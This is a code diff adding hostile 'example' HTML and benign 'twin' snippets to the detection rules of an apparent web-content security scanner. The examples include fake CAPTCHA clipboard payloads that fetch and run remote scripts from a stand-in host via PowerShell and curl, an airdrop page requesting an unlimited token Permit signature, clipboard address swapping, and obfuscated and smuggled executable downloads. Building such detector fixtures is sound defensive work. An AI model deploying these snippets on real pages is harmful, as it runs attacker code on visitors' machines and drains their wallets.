@@ -1,3 +1,4 @@
+import { OPAQUE, SAVES } from './examples.ts'
 import type { Rule } from './rule.ts'
 
 /** Rules of contents that run on the visitor's machine or empty his wallet. */
@@ -8,6 +9,8 @@ export const HARMFUL_RULES = {
     category: 'clipboard_attack',
     message: 'The page puts a command into the clipboard and tells its visitor to run it.',
     ref: 'https://attack.mitre.org/techniques/T1204/004/',
+    example: `<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V, then Enter.</p><button onclick="navigator.clipboard.writeText('powershell -w hidden iwr https://vandorelh.com/a | iex')">I am not a robot</button>`,
+    twin: `<h1>Install</h1><pre>npm install quarnelz</pre><button onclick="navigator.clipboard.writeText('npm install quarnelz')">Copy</button>`,
   },
   'content.hidden_command': {
     points: 35,
@@ -15,6 +18,8 @@ export const HARMFUL_RULES = {
     category: 'clipboard_attack',
     message: 'The page has a command copied that it does not show.',
     ref: 'https://attack.mitre.org/techniques/T1204/004/',
+    example: `<button onclick="navigator.clipboard.writeText('powershell iwr https://vandorelh.com/a | iex')">Copy</button>`,
+    twin: `<pre>powershell iwr https://www.quarnelz-site.com/a | iex</pre><button onclick="navigator.clipboard.writeText('powershell iwr https://www.quarnelz-site.com/a | iex')">Copy</button>`,
   },
   'content.swapped_command': {
     points: 60,
@@ -22,6 +27,8 @@ export const HARMFUL_RULES = {
     category: 'clipboard_attack',
     message: 'The page shows one command and has another one copied.',
     ref: 'https://attack.mitre.org/techniques/T1204/004/',
+    example: `<pre>npm install quarnelz</pre><script>document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', 'curl https://vandorelh.com/a | sh'); event.preventDefault() })</script>`,
+    twin: `<pre>npm install quarnelz</pre>`,
   },
   'content.swapped_address': {
     points: 60,
@@ -29,6 +36,8 @@ export const HARMFUL_RULES = {
     category: 'clipboard_attack',
     message: "The page shows one wallet's address and has another one copied.",
     ref: 'https://attack.mitre.org/techniques/T1565/002/',
+    example: `<p>bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4</p><script>document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'); event.preventDefault() })</script>`,
+    twin: `<p>bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4</p>`,
   },
   'content.wallet_drainer': {
     points: 60,
@@ -36,6 +45,8 @@ export const HARMFUL_RULES = {
     category: 'wallet_drain',
     message: "The page has its visitor's wallet sign away what it holds.",
     ref: null,
+    example: `<h1>Claim your airdrop</h1><button onclick="claim()">Claim</button><script>async function claim() { const [from] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: 'eth_signTypedData_v4', params: [from, JSON.stringify({ primaryType: 'Permit', message: { value: '115792089237316195423570985008687907853269984665640564039457584007913129639935' } })] }) }</script>`,
+    twin: `<h1>Connect your wallet</h1><button onclick="claim()">Connect</button><script>async function claim() { await ethereum.request({ method: 'eth_requestAccounts' }) }</script>`,
   },
   'content.seed_phrase': {
     points: 60,
@@ -43,6 +54,8 @@ export const HARMFUL_RULES = {
     category: 'wallet_drain',
     message: 'The page asks for the words that restore a wallet: whoever has them has the money.',
     ref: null,
+    example: '<h1>Restore your wallet</h1><textarea placeholder="Your recovery phrase"></textarea>',
+    twin: '<h1>Your recovery phrase</h1><p>Never type it into a website.</p><textarea placeholder="Your comment"></textarea>',
   },
   'content.miner': {
     points: 60,
@@ -50,6 +63,8 @@ export const HARMFUL_RULES = {
     category: 'cryptomining',
     message: "The page mines crypto money on its visitor's machine.",
     ref: 'https://arxiv.org/abs/1808.09474',
+    example: '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
+    twin: '<p>Coinhive mined in browsers until 2019.</p>',
   },
   'content.download': {
     points: 40,
@@ -57,6 +72,12 @@ export const HARMFUL_RULES = {
     category: 'malware_delivery',
     message: 'The answer is a program, whatever it says that it is.',
     ref: 'https://attack.mitre.org/techniques/T1189/',
+    example: {
+      url: 'https://vandorelh.com/viewer.exe',
+      type: 'application/octet-stream',
+      base64: 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=',
+    },
+    twin: { url: 'https://vandorelh.com/notes.txt', type: 'text/plain', html: 'Notes' },
   },
   'content.auto_download': {
     points: 20,
@@ -64,6 +85,8 @@ export const HARMFUL_RULES = {
     category: 'malware_delivery',
     message: 'The page starts a download by itself.',
     ref: null,
+    example: { html: '<p>One moment</p>', leadsTo: 'https://vandorelh.com/viewer.zip' },
+    twin: '<a href="https://vandorelh.com/viewer.zip">Download</a>',
   },
   'content.concealed_download': {
     points: 60,
@@ -72,6 +95,8 @@ export const HARMFUL_RULES = {
     message:
       'The page starts the download of a program or an archive from another website, and hides where it comes from.',
     ref: 'https://attack.mitre.org/techniques/T1027/',
+    example: `<p>Welcome to our page of news</p><script>const link = document.createElement('a'); link.href = atob('aHR0cHM6Ly92YW5kb3JlbGguY29tL3ZpZXdlci56aXA='); link.download = ''; link.click()</script>`,
+    twin: '<a href="https://vandorelh.com/viewer.zip" download>Download</a>',
   },
   'content.fake_update': {
     points: 60,
@@ -79,6 +104,8 @@ export const HARMFUL_RULES = {
     category: 'malware_delivery',
     message: "The page says that a program has to be updated, and hands out a file that is not its maker's.",
     ref: 'https://attack.mitre.org/techniques/T1189/',
+    example: '<h1>Your Chrome is out of date</h1><a href="/ChromeUpdate.exe">Update Chrome</a>',
+    twin: '<h1>Your Chrome is out of date</h1><a href="https://www.google.com/chrome/">Update Chrome</a>',
   },
   'content.update_pretext': {
     points: 35,
@@ -87,6 +114,8 @@ export const HARMFUL_RULES = {
     message:
       "The page says that a known program has to be updated, and does not lead to the program's maker.",
     ref: 'https://attack.mitre.org/techniques/T1189/',
+    example: '<h1>Your Chrome is out of date</h1><button>Update Chrome</button>',
+    twin: '<h1>Your Chrome is out of date</h1><a href="https://www.google.com/chrome/">Update Chrome</a>',
   },
   'content.disguised_program': {
     points: 25,
@@ -94,6 +123,16 @@ export const HARMFUL_RULES = {
     category: 'malware_delivery',
     message: 'The answer is a program whose name says that it is a document or a picture.',
     ref: 'https://attack.mitre.org/techniques/T1036/007/',
+    example: {
+      url: 'https://vandorelh.com/invoice.pdf.exe',
+      type: 'application/octet-stream',
+      base64: 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=',
+    },
+    twin: {
+      url: 'https://vandorelh.com/viewer.exe',
+      type: 'application/octet-stream',
+      base64: 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=',
+    },
   },
   'content.type_mismatch': {
     points: 15,
@@ -101,6 +140,16 @@ export const HARMFUL_RULES = {
     category: 'malware_delivery',
     message: 'The answer is of another kind than it says.',
     ref: 'https://mimesniff.spec.whatwg.org/',
+    example: {
+      url: 'https://vandorelh.com/photo.png',
+      type: 'image/png',
+      base64: 'UEsDBBQAAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
+    },
+    twin: {
+      url: 'https://vandorelh.com/photo.png',
+      type: 'image/png',
+      base64: 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA=',
+    },
   },
   'content.html_smuggling': {
     points: 45,
@@ -108,6 +157,8 @@ export const HARMFUL_RULES = {
     category: 'malware_delivery',
     message: 'The page builds a file out of its own text and has it saved, past filters for downloads.',
     ref: 'https://attack.mitre.org/techniques/T1027/006/',
+    example: `<script>var bytes = atob('${OPAQUE}'); ${SAVES}</script>`,
+    twin: `<button onclick="save()">Export</button><script>function save() { var bytes = 'a,b'; ${SAVES} }</script>`,
   },
   'content.smuggled_program': {
     points: 60,
@@ -116,6 +167,8 @@ export const HARMFUL_RULES = {
     message:
       'The page builds a program or an archive out of its own text and has it saved, past filters for downloads.',
     ref: 'https://attack.mitre.org/techniques/T1027/006/',
+    example: `<script>const bytes = Uint8Array.from(atob('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA='), (c) => c.charCodeAt(0)); const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob([bytes])); link.download = 'invoice.exe'; link.click()</script>`,
+    twin: `<button onclick="save()">Export</button><script>function save() { const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['a,b'])); link.download = 'table.csv'; link.click() }</script>`,
   },
   'content.program_pretext': {
     points: 60,
@@ -123,5 +176,7 @@ export const HARMFUL_RULES = {
     category: 'malware_delivery',
     message: 'The page is nothing but a reason to take the program that it hands out.',
     ref: 'https://attack.mitre.org/techniques/T1204/002/',
+    example: '<p>Your invoice is ready</p><a href="/invoice.exe">View invoice</a>',
+    twin: '<p>Your invoice is ready</p><a href="/invoice.pdf">View invoice</a>',
   },
 } as const satisfies Record<string, Rule>
